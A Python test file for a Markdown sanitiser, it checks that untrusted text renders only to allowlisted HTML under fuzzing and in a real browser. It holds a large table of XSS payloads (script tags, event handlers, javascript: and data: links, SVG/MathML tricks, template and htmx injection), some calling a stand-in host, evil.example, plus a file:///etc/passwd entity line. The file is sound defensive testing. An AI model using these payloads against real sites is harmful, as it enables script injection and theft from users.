"""Untrusted text becomes harmless HTML: by tables of attacks, by any text at all, and in a real browser."""

# ruff: noqa: E501 - one attack, one line

import re
import shutil
import time
from collections.abc import Iterator
from html.parser import HTMLParser
from itertools import pairwise
from pathlib import Path

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from pygments.token import STANDARD_TYPES

import arena.core.markdown
from arena.core.markdown import plain_excerpt, render_untrusted

BAD_URL = "https://evil.example"
ATTACKS = {
    "script": "<script>hit('script')</script>",
    "script in capitals": "<ScRiPt>hit('caps')</sCrIpT>",
    "script from elsewhere": f"<script src={BAD_URL}/x.js></script>",
    "script of type module": f'<script type="module">import "{BAD_URL}/m.js"</script>',
    "script cut by a comment": "<scr<!-- -->ipt>hit('cut')</scr<!-- -->ipt>",
    "script without an end": "<script>hit('open')",
    "script after a broken tag": '<b "<script>hit(1)</script>">',
    "script closing our own tags": "</code></pre></p></div><script>hit('close')</script>",
    "script in a code block": "```html\n</code></pre><script>hit('fence')</script>\n```",
    "script in a code block of no language": "```\n</code></pre><script>hit('plain fence')</script>\n```",
    "script in the name of a language": "```\"><script>hit('lang')</script>\ncode\n```",
    "script in an indented block": "    </code></pre><script>hit('indent')</script>",
    "script in code": "`</code><script>hit('code')</script>`",
    "script in mathematics": "$</p><script>hit('math')</script>$ \\(<img src=x onerror=hit(1)>\\)",
    "script in entities": "&lt;script&gt;hit('entity')&lt;/script&gt; &#60;script&#62;hit(1)&#60;/script&#62;",
    "script in a table": "| a |\n|---|\n| <script>hit('cell')</script> |",
    "script in a heading": "# <script>hit('h')</script>",
    "event handler of an image": "<img src=x onerror=hit('img')>",
    "event handler after a slash": "<img/src=x/onerror=hit('slash')>",
    "event handler of the body": "<body onload=hit('body')>",
    "event handler of details": "<details open ontoggle=hit('details')>x</details>",
    "event handler with focus": "<input autofocus onfocus=hit('focus')>",
    "event handler of an animation": "<p style='animation:x' onanimationstart=hit('animation')>x</p>",
    "event handler of a marquee": "<marquee onstart=hit('marquee')>x</marquee>",
    "event handler in a title": '[a](https://ok.example "x\\" onmouseover=\\"hit(1)")',
    "event handler in an address": '[a](https://ok.example/"onmouseover="hit(1))',
    "event handler in an angle address": '[a](<https://ok.example/" onmouseover="hit(1)>)',
    "event handler in an alternative text": '![x" onerror="hit(1)](https://evil.example/a.png)',
    "svg": "<svg onload=hit('svg')><script>hit('svg script')</script></svg>",
    "svg animation": "<svg><animate onbegin=hit('animate') attributeName=x dur=1s></svg>",
    "svg use": f'<svg><use href="{BAD_URL}/x.svg#a"></use></svg>',
    "svg foreign object": "<svg><foreignObject><iframe srcdoc='<script>parent.hit(1)</script>'></foreignObject></svg>",
    "svg with a confused style": "<svg><style><img src=x onerror=hit('style')></style></svg>",
    "mathml": '<math><mi xlink:href="javascript:hit(1)">x</mi><maction actiontype="statusline">x</maction></math>',
    "mathml confusion": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=hit(1)&gt;'>",
    "iframe": f'<iframe src="{BAD_URL}"></iframe>',
    "iframe with a document": "<iframe srcdoc=\"<script>parent.hit('srcdoc')</script>\"></iframe>",
    "object and embed": f'<object data="{BAD_URL}/o"></object><embed src="{BAD_URL}/e">',
    "style": f"<style>@import '{BAD_URL}/s.css'; body{{background:url({BAD_URL}/b)}}</style>",
    "style attribute": f'<p style="background:url({BAD_URL}/p)">x</p>',
    "style sheet": f'<link rel="stylesheet" href="{BAD_URL}/l.css">',
    "preload": f'<link rel="preload" as="image" href="{BAD_URL}/l.png"><link rel="dns-prefetch" href="{BAD_URL}">',
    "base": f'<base href="{BAD_URL}/">',
    "meta refresh": f'<meta http-equiv="refresh" content="0;url={BAD_URL}">',
    "form": f'<form action="{BAD_URL}"><input name=q value=1><button autofocus>vote</button></form>',
    "form action": "<button formaction=javascript:hit(1)>x</button><isindex action=javascript:hit(1) type=image>",
    "media": f'<video src="{BAD_URL}/v" autoplay></video><audio src="{BAD_URL}/a" autoplay></audio>',
    "picture": f'<picture><source srcset="{BAD_URL}/s"><img srcset="{BAD_URL}/t"></picture>',
    "old background": f'<table background="{BAD_URL}/bg"><tr><td background="{BAD_URL}/td">x</table>',
    "template": "<template><script>hit('template')</script></template>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=hit(1)>"></noscript>',
    "text area": '<textarea><p title="</textarea><img src=x onerror=hit(1)>">',
    "comment": "<!-- <img src=x onerror=hit('comment')> -->",
    "comment that ends early": "<!--> <img src=x onerror=hit('early')> -->",
    "processing instruction": "<?php hit(1) ?><?xml-stylesheet href='javascript:hit(1)'?>",
    "document type": "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    "cdata": "<![CDATA[<script>hit('cdata')</script>]]>",
    "dialog": "<dialog open id=main>x</dialog><a name=forms id=location>x</a>",
    "javascript link": "[a](javascript:hit(1))",
    "javascript link in capitals": "[a](JaVaScRiPt:hit(1))",
    "javascript link with entities": "[a](&#106;avascript:hit(1)) [b](&#x6A;avascript&colon;hit(1))",
    "javascript link with a tab": "[a](<java\tscript:hit(1)>) [b](java&#9;script:hit(1)) [c](java&Tab;script:hit(1))",
    "javascript link with a line break": "[a](<java\nscript:hit(1)>) [b](java&NewLine;script:hit(1))",
    "javascript link after a space": "[a]( javascript:hit(1)) [b](<\x01javascript:hit(1)>) [c](&#32;javascript:hit(1))",
    "javascript link with percent signs": "[a](javascript%3Ahit(1)) [b](%6Aavascript:hit(1))",
    "javascript link with a slash": "[a](javascript://%0ahit(1)) [b](\\javascript:hit(1))",
    "javascript link with hidden characters": "[a](java\u200bscript:hit(1)) [b](\u202ejavascript:hit(1))",
    "javascript autolink": "<javascript:hit(1)> <JAVASCRIPT:hit(1)>",
    "javascript reference": "[a][x] [b][] [x]\n\n[x]: javascript:hit(1)\n[b]: <javascript:hit(1)> 'title'",
    "javascript image": "![a](javascript:hit(1)) ![b][y]\n\n[y]: javascript:hit(1)",
    "javascript inside a link": "[![x](javascript:hit(1))](javascript:hit(2))",
    "vbscript link": "[a](vbscript:hit(1)) [b](VBScript:hit(1))",
    "data link": "[a](data:text/html,<script>hit(1)</script>) [b](data:text/html;base64,PHNjcmlwdD4=)",
    "data image": "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9aGl0KDEpPg==) [b](data:image/png;base64,AAAA)",
    "blob and file links": "[a](blob:https://x/1) [b](file:///etc/passwd) [c](about:blank) [d](ftp://x.example)",
    "link to our own pages": "[a](/accounts/logout/) [b](//evil.example) [c](?vote=a) [d](#main) [e](\\\\evil.example)",
    "reference overwritten": f"[a]: {BAD_URL}\n[a]: javascript:hit(1)\n\n[a]",
    "external image": f"![pixel]({BAD_URL}/pixel.png) ![]({BAD_URL}/empty.png)",
    "external image by reference": f"![pixel][p]\n\n[p]: {BAD_URL}/ref.png",
    "external image in html": f'<img src="{BAD_URL}/img.png"> <img src={BAD_URL}/i2 loading=eager>',
    "nested marks": "**_[a](javascript:hit(1))_** > # - `x` ~~<b onclick=hit(1)>x</b>~~",
    "broken html": "<div><p><b>x</i></div></table></td></html><b <i <a href=javascript:hit(1)>",
    "broken html with quotes": '<a href=\'javascript:hit(1)"x\'>x</a><img """><script>hit(1)</script>">',
    "null byte": "<scr\x00ipt>hit('null')</scr\x00ipt> [a](java\x00script:hit(1))",
    "full-width and look-alike marks": "＜script＞hit(1)＜/script＞ ‹script›hit(1)‹/script›",
    "lone surrogate": "a \ud800<script>hit('surrogate')</script>\udfff",
    "django template": "{{ 7|add:7 }} {% load static %} {% include 'x' %} {# x #} {{ settings.SECRET_KEY }}",
    "other templates": "${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('hit(1)')()}}",
    "htmx": f'<a hx-get="{BAD_URL}" hx-trigger="load">x</a><b data-hx-post="{BAD_URL}" data-hx-trigger="load">x</b>',
    "htmx handlers": "<div hx-on::load=\"hit('hx')\" hx-on:click=hit(1) data-hx-on--load=hit(1)>x</div>",
    "htmx fragments": f'<hx-partial hx-target="body"><p>x</p></hx-partial><div hx-swap-oob="true" id="main">x</div>{BAD_URL}',
    "htmx in a language": '```x" hx-get="https://evil.example" hx-trigger="load\ncode\n```',
    "custom element": "<x-widget onclick=hit(1)>x</x-widget><slot name=x></slot>",
    "class and identity": '<p id="main" class="modal" name="csrfmiddlewaretoken" slot="x" is="x">x</p>',
}

PYGMENTS_CLASSES = {name for name in STANDARD_TYPES.values() if name}
REL = "nofollow noopener noreferrer"
ALLOWED_TAGS = {
    *("a", "blockquote", "br", "code", "em", "h3", "h4", "h5", "h6", "hr", "li", "ol", "p", "pre"),
    *("s", "span", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul"),
}
VOID = {"br", "hr"}


class Reader(HTMLParser):
    """Refuses whatever is not expected, with no help from the code under test."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.links: list[str] = []
        self.text = ""
        self._open: list[str] = []
        self.feed(html)
        self.close()
        assert self._open == [], f"left open: {self._open}"

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in ALLOWED_TAGS, tag
        self.tags.append(tag)
        if tag not in VOID:
            self._open.append(tag)
        for name, value in attrs:
            self.check_attribute(tag, name, value or "")

    def check_attribute(self, tag: str, name: str, value: str) -> None:
        match tag, name:
            case "a", "href":
                assert re.match(r"(https?://[^/]|mailto:[^@\s]+@)", value, re.IGNORECASE), value
                self.links.append(value)
            case "a", "rel":
                assert value == REL
            case "ol", "start":
                assert value.isdigit()
            case "td" | "th", "align":
                assert value in {"left", "center", "right"}
            case "pre", "tabindex":
                assert value == "0"
            case "pre", "class":
                assert value == "highlight"
            case "span", "class":
                assert "pre" in self._open
                assert set(value.split()) <= PYGMENTS_CLASSES, value
            case _:
                pytest.fail(f"{tag} has {name}={value!r}")

    def handle_endtag(self, tag: str) -> None:
        assert self._open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        pytest.fail(f"comment {data!r}")

    def handle_decl(self, decl: str) -> None:
        pytest.fail(f"declaration {decl!r}")

    def handle_pi(self, data: str) -> None:
        pytest.fail(f"instruction {data!r}")

    def unknown_decl(self, data: str) -> None:
        pytest.fail(f"declaration {data!r}")


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
@pytest.mark.parametrize("around", ["{}", "> {}", "- {}", "text {} text", "**{}**", "| a |\n|---|\n| {} |"])
def test_attack_leaves_only_allowed_tags_and_attributes(attack: str, around: str) -> None:
    Reader(render_untrusted(around.replace("{}", attack)))


@pytest.mark.parametrize(
    "name",
    [name for name in ATTACKS if name.startswith(("javascript", "vbscript", "data", "blob", "link to"))],
)
def test_link_that_is_not_a_web_or_mail_address_stays_text(name: str) -> None:
    assert Reader(render_untrusted(ATTACKS[name])).links == []


def test_html_is_shown_as_it_was_written() -> None:
    assert Reader(render_untrusted("a <b onclick=x>bold</b>")).text == "a <b onclick=x>bold</b>"


def test_template_marks_are_shown_as_they_were_written() -> None:
    assert Reader(render_untrusted("{{ a|b }} {% url 'x' %}")).text == "{{ a|b }} {% url 'x' %}"


def test_web_and_mail_links_stay_links() -> None:
    page = Reader(
        render_untrusted("[a](https://a.example/?q=1&r=2) <http://b.example> [c](mailto:c@d.example)")
    )
    assert page.links == ["https://a.example/?q=1&r=2", "http://b.example", "mailto:c@d.example"]


def test_link_without_text_shows_its_address() -> None:
    assert Reader(render_untrusted("[](https://a.example)")).text == "https://a.example"


def test_image_becomes_its_alternative_text() -> None:
    page = Reader(render_untrusted("A ![red *cat*](https://a.example/cat.png)."))
    assert (page.text, page.links) == ("A red cat.", [])


def test_image_without_alternative_text_becomes_its_address() -> None:
    assert Reader(render_untrusted("![](https://a.example/cat.png)")).text == "https://a.example/cat.png"


@pytest.mark.parametrize(
    ("source", "levels"),
    [
        ("# a", ["h3"]),
        ("###### a", ["h3"]),
        ("## a\n## b\n# c", ["h3", "h3", "h3"]),
        ("# a\n### b\n### c\n## d\n# e", ["h3", "h4", "h4", "h4", "h3"]),
        ("# a\n## b\n### c\n#### d\n##### e\n###### f", ["h3", "h4", "h5", "h6", "h6", "h6"]),
        ("a\n=\nb\n-", ["h3", "h4"]),
        ("#\n##  ##\n# a", ["h3"]),
    ],
)
def test_headings_begin_at_h3_and_leave_no_level_out(source: str, levels: list[str]) -> None:
    assert [tag for tag in Reader(render_untrusted(source)).tags if tag.startswith("h")] == levels


@given(st.lists(st.integers(1, 6), max_size=12))
def test_any_outline_goes_down_one_level_at_a_time(levels: list[int]) -> None:
    tags = Reader(render_untrusted("\n".join(f"{'#' * level} x" for level in levels))).tags
    shown = [2, *(int(tag[1]) for tag in tags)]
    assert len(tags) == len(levels)
    assert all(after - before <= 1 for before, after in pairwise(shown))
    assert all(3 <= level <= 6 for level in shown[1:])


def test_table_keeps_alignment_without_inline_style() -> None:
    html = render_untrusted("| a | |\n|:-:|--:|\n| 1 | 2 |")
    assert '<th align="center">a</th>' in html
    assert '<td align="right"></td>' in html, "an empty header cell is no header"


def test_numbered_list_keeps_its_first_number() -> None:
    assert '<ol start="3">' in render_untrusted("3. x\n4. y")


def test_line_breaks_of_a_poem_stay() -> None:
    assert render_untrusted("Rain on\nthe roof") == "<p>Rain on<br>\nthe roof</p>"


def test_strikethrough_is_known() -> None:
    assert render_untrusted("~~a~~") == "<p><s>a</s></p>"


@pytest.mark.parametrize(
    "formula", ["$a_1 * b_2 * c$", r"\(x_1 * y * z\)", r"\[ \frac{a_b}{c_d} \]", "$$\na_b * c_d *\n$$"]
)
def test_mathematics_is_shown_as_it_was_written(formula: str) -> None:
    page = Reader(render_untrusted(f"So {formula} holds."))
    assert page.text == f"So {formula} holds."
    assert not {"em", "strong"} & set(page.tags)


def test_prices_are_not_mathematics() -> None:
    assert "<strong>b</strong>" in render_untrusted("$5 and $10, **b**, $15")


def test_code_of_a_known_language_is_highlighted_by_class() -> None:
    html = render_untrusted("```python\nx = 'a'  # b\n```")
    assert '<pre class="highlight" tabindex="0"><code>' in html
    assert '<span class="c1"># b</span>' in html
    assert Reader(html).text == "x = 'a'  # b\n"


@pytest.mark.parametrize("language", ["", "klingon", "python'onload=x", "markdown", "console", "html+django"])
def test_code_of_another_language_is_shown_plain(language: str) -> None:
    page = Reader(render_untrusted(f"```{language}\nx = 1\n```"))
    assert (page.tags, page.text) == (["pre", "code"], "x = 1\n")


@pytest.mark.parametrize("language", sorted(arena.core.markdown._LANGUAGES))
def test_every_language_of_the_list_has_a_lexer_and_loses_no_character(language: str) -> None:
    code = "\n\n  if (a < b) { return \"x\"; } // <b>&amp;\n#\t'y'\n\n"
    assert Reader(render_untrusted(f"```{language}\n{code}```")).text == code


def test_code_in_a_link_or_heading_stays_code() -> None:
    assert Reader(render_untrusted("# `a`\n[`b`](https://b.example)")).tags == [
        "h3",
        "code",
        "p",
        "a",
        "code",
    ]


@pytest.mark.parametrize(
    "hidden", ["\u202e", "\u202a", "\u2066", "\u2069", "\x00", "\x07", "\x1b", "\x7f", "\x85", "\ufeff"]
)
def test_control_and_direction_characters_are_taken_out(hidden: str) -> None:
    written = Reader(render_untrusted(f"a{hidden}b `c{hidden}d`")).text
    entity = Reader(render_untrusted(f"a&#{ord(hidden)};b")).text
    percent = "".join(f"%{byte:02x}" for byte in hidden.encode())
    address = Reader(render_untrusted(f"<https://a.example/{percent}>")).text
    assert written == "ab cd"
    assert hidden not in entity + address


def test_both_ends_of_line_are_understood() -> None:
    assert render_untrusted("a\r\n\r\nb\rc") == render_untrusted("a\n\nb\nc")


def test_right_to_left_text_and_joined_emoji_are_kept() -> None:
    assert Reader(render_untrusted("שלום \u200fأهلا 👩‍👩‍👧")).text == "שלום \u200fأهلا 👩‍👩‍👧"


LONG = 200_000
HEAVY = {
    **{
        repr(unit): unit * (LONG // len(unit))
        for unit in ("[", "*", ">", "`", "![", "[a](", "[[a]]", "]", "_a ")
    },
    **{
        repr(unit): unit * (LONG // len(unit))
        for unit in ("**a ", "a**b", "*_", "~~a", "- ", "> ", "&", "<", "\\")
    },
    **{
        repr(unit): unit * (LONG // len(unit))
        for unit in ("\\(", "$", "$$", "\\[a", "|", "# a\n", "-\n", "[x]: y\n")
    },
    "growing backticks": " ".join("`" * i for i in range(1, 600)),
    "growing quotes": "\n".join(">" * i for i in range(1, 600)),
    "growing lists": "\n".join("  " * i + "- a" for i in range(1, 400)),
    "quoted tail": ">" * 100 + "\n" + "a\n" * 100_000,
    "wide table": "a|" * 5_000 + "\n" + "-|" * 5_000 + "\n" + "x\n" * 5_000,
    "strong in strong": "*" * 20_000 + "a" + "*" * 20_000,
}
LIMIT = {
    **{
        f"{unit!r} just below the limit": unit * (39_999 // len(unit))
        for unit in ("[", "![", "[a][", "*_", "a*b_c*")
    },
    "quoted tail below the limit": ">" * 10 + "\n" + "a\n" * 3_900,
    "table below the limit": "a|" * 100 + "\n" + "-|" * 100 + "\n" + "x\n" * 190,
    "java": "```java\n" + ("a " * 99 + "\n") * 30 + "```",
    "c": "```c\n" + "\n" * 240 + "```",
    "c#": "```cs\n" + "a\n" * 240 + "```",
    "make": "```make\n" + ("1." * 99 + "\n") * 30 + "```",
    "many blocks": ("```perl\n" + ("m{" * 90 + "\n") * 30 + "```\n") * 9,
    "links": "[a](https://b.example) " * 1_700,
}


@pytest.mark.parametrize("text", [*HEAVY.values(), *LIMIT.values()], ids=[*HEAVY, *LIMIT])
def test_heavy_text_is_rendered_in_bounded_time(text: str) -> None:
    began = time.process_time()
    html = render_untrusted(text)
    took_s = time.process_time() - began
    Reader(html)
    assert took_s < 1.5  # about half a second at most where nothing else runs


@pytest.mark.parametrize("name", ["growing quotes", "growing lists", "quoted tail", "strong in strong"])
def test_text_too_deep_for_markdown_is_shown_whole(name: str) -> None:
    assert Reader(render_untrusted(HEAVY[name])).text.rstrip() == HEAVY[name].rstrip()


def test_long_text_is_shown_as_written() -> None:
    text = "**a** <b>\n" * 20_000
    assert render_untrusted(text).startswith(
        '<pre class="highlight" tabindex="0"><code>**a** &lt;b&gt;\n**a**'
    )
    assert Reader(render_untrusted(text)).text == text


def test_text_without_end_is_cut_and_says_so() -> None:
    html = render_untrusted("a" * 3_000_000)
    assert len(html) < 600_000
    assert "… (2500000 more characters)" in html


@pytest.mark.parametrize("text", ["", " ", "\n\n", "\x00"])
def test_empty_text_gives_empty_html(text: str) -> None:
    assert render_untrusted(text) == ""


# fmt: off
MARKS = [
    "\n", "\n\n", " ", "    ", "\t", "```", "```python\n", "~~~", "`", "*", "**", "_", "~~", "[", "]", "](", ")", "![",
    "<", ">", "> ", "- ", "1. ", "#", "|", "|---|", "\\", "&#x3c;", "&lt;", "$", "\\(", "'", '"', "javascript:",
    "https://a.example", "mailto:a@b.c", "[x]: ", "onload=", "style=", "\u202e", "\u2028",
]
# fmt: on
# Fragments that together reach far more of the parser than random characters do.
FRAGMENTS = st.lists(
    st.one_of(
        st.sampled_from(list(ATTACKS.values())),
        st.sampled_from(MARKS),
        st.text(max_size=5),
    ),
    max_size=25,
).map("".join)
ANY_CHARACTER = st.characters(codec=None)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(FRAGMENTS | st.text(ANY_CHARACTER, max_size=200))
@example("</code></pre><script>hit(1)</script>")
def test_any_text_gives_only_allowed_tags_and_attributes(text: str) -> None:
    Reader(render_untrusted(text))


@settings(max_examples=150, deadline=None)
@given(FRAGMENTS | st.text(ANY_CHARACTER, max_size=200))
def test_rendering_is_the_same_every_time(text: str) -> None:
    assert render_untrusted(text) == render_untrusted(text)


@settings(max_examples=200, deadline=None)
@given(FRAGMENTS | st.text(ANY_CHARACTER, max_size=400), st.integers(1, 80))
def test_excerpt_is_one_line_and_no_longer_than_asked(text: str, length: int) -> None:
    excerpt = plain_excerpt(text, length)
    assert len(excerpt) <= length
    assert "\n" not in excerpt


@pytest.mark.parametrize(
    ("text", "excerpt"),
    [
        ("# Title\n\nSome **bold** [link](https://a.example) and `code`.", "Title Some bold link and code."),
        ("One two three four five six seven", "One two three four five six…"),
        ("Onetwothreefourfivesixseveneightnine", "Onetwothreefourfivesixseveneig…"[:29] + "…"),
        ("- a\n- b\n\n```\ncode\n```", "a b code"),
        ("![cat](https://a.example/c.png) <b>x</b>", "cat <b>x</b>"),
        ("", ""),
    ],
)
def test_excerpt_is_the_text_without_marks(text: str, excerpt: str) -> None:
    assert plain_excerpt(text, 30) == excerpt


def test_excerpt_of_a_huge_text_is_quick() -> None:
    began = time.process_time()
    plain_excerpt("[" * 5_000_000, 80)
    assert time.process_time() - began < 0.5


# The colours of highlighted code.

STYLE_SHEET = Path(arena.core.markdown.__file__).parent / "static" / "core" / "highlight.css"


def luminance(colour: str) -> float:
    parts = [int(colour[at : at + 2], 16) / 255 for at in (1, 3, 5)]
    red, green, blue = (
        part / 12.92 if part <= 0.04045 else ((part + 0.055) / 1.055) ** 2.4 for part in parts
    )
    return 0.2126 * red + 0.7152 * green + 0.0722 * blue


def contrast(one: str, other: str) -> float:
    light, dark = sorted((luminance(one), luminance(other)), reverse=True)
    return (light + 0.05) / (dark + 0.05)


def themes() -> Iterator[tuple[str, dict[str, str]]]:
    for rule in re.finditer(r"([^{}/]+)\{([^{}]*--code-text:[^{}]*)\}", STYLE_SHEET.read_text()):
        yield " ".join(rule[1].split()), dict(re.findall(r"--code-([a-z]+): (#[0-9a-f]{6});", rule[2]))


def test_light_and_dark_define_the_same_colours() -> None:
    colours = dict(themes())
    assert list(colours) == [
        ':root, [data-theme="light"]',
        ':root:not([data-theme="light"])',
        '[data-theme="dark"]',
    ]
    light, dark_by_system, dark_by_choice = colours.values()
    assert dark_by_system == dark_by_choice
    assert light.keys() == dark_by_choice.keys()
    assert set(re.findall(r"var\(--code-([a-z]+)\)", STYLE_SHEET.read_text())) == light.keys()


def test_every_code_colour_is_readable_on_its_background() -> None:
    for _, colours in themes():
        grounds = {colours["background"], "#ffffff" if colours["background"] > "#8" else "#1b1b1a"}
        for name, colour in colours.items():
            if name != "background":
                assert min(contrast(colour, ground) for ground in grounds) >= 4.5, name


def test_style_sheet_colours_only_classes_that_exist() -> None:
    assert set(re.findall(r"\.highlight \.(\w+)", STYLE_SHEET.read_text())) <= PYGMENTS_CLASSES


# A real browser.

PAGE = """<!doctype html><html lang="en"><head><meta charset="utf-8"><title>t</title><link rel="icon" href="data:,">
<script>window.hits = []; window.hit = what => window.hits.push(what);
window.addEventListener("error", event => { if (event.message) window.hits.push(event.message); });</script></head>
<body><h1>Attacks</h1>%s<p id="end">end</p></body></html>"""
POKE = """async () => {
  for (const element of document.querySelectorAll("body, body *")) {
    for (const name of ["mouseover", "mouseenter", "focus", "pointerdown", "load", "error", "toggle", "animationstart"])
      element.dispatchEvent(new Event(name, {bubbles: true}));
  }
  await new Promise(resolve => setTimeout(resolve, 300));
  return {hits: window.hits, tags: [...new Set([...document.querySelectorAll("section *")].map(e => e.localName))],
    attributes: [...new Set([...document.querySelectorAll("section *")].flatMap(e => e.getAttributeNames()))],
    protocols: [...new Set([...document.querySelectorAll("section a")].map(e => e.protocol))],
    sections: document.querySelectorAll("body > section").length, end: !!document.querySelector("body > #end"),
    base: document.baseURI, url: location.href, height: document.body.scrollHeight};
}"""


@pytest.mark.browser
def test_in_a_real_browser_no_attack_runs_or_loads_anything() -> None:
    from playwright.sync_api import sync_playwright

    chromium = shutil.which("chromium")
    if not chromium:
        pytest.skip("Chromium is not installed (Debian: apt install chromium).")
    arguments = "--no-sandbox --disable-gpu --disable-quic --no-first-run --disable-background-networking"
    # One section an attack, and one long answer of all of them together: they may also work as a team.
    texts = [*ATTACKS.values(), "\n\n".join(ATTACKS.values()), "".join(ATTACKS.values())]
    page_html = PAGE % "".join(f"<section>{render_untrusted(text)}</section>" for text in texts)
    seen: list[str] = []
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path=chromium,
            args=[*arguments.split(), "--disable-component-update", "--disable-sync"],
        )
        context = browser.new_context()
        page = context.new_page()
        # The page carries no content security policy: the sanitiser has to hold alone.
        context.route(
            "**/*",
            lambda route: (
                route.fulfill(content_type="text/html; charset=utf-8", body=page_html)
                if route.request.url == "http://page.example/"
                else route.abort()
            ),
        )
        context.on("request", lambda request: seen.append(request.url))
        context.on("page", lambda popup: seen.append(f"popup {popup.url}"))
        page.on("dialog", lambda dialog: (seen.append(f"dialog {dialog.message}"), dialog.dismiss()))
        page.on("framenavigated", lambda frame: seen.append(f"navigated {frame.url}"))
        page.goto("http://page.example/")
        found = page.evaluate(POKE)
        page.screenshot()
        # The same watch notices a page that is not sanitised, so silence above means something.
        before = list(seen)
        page.evaluate(
            "() => { document.body.innerHTML += '<img src=https://evil.example/proof onerror=hit(1)>' }"
        )
        page.wait_for_function("() => window.hits.length > 0")
        browser.close()
    assert before == ["http://page.example/", "navigated http://page.example/"]
    assert seen[len(before) :] == ["https://evil.example/proof"]
    assert found["hits"] == []
    assert set(found["tags"]) <= ALLOWED_TAGS
    assert set(found["attributes"]) <= {"href", "rel", "class", "tabindex", "align", "start"}
    assert set(found["protocols"]) <= {"http:", "https:", "mailto:"}
    assert (found["sections"], found["end"]) == (len(texts), True)
    assert (found["base"], found["url"]) == ("http://page.example/", "http://page.example/")
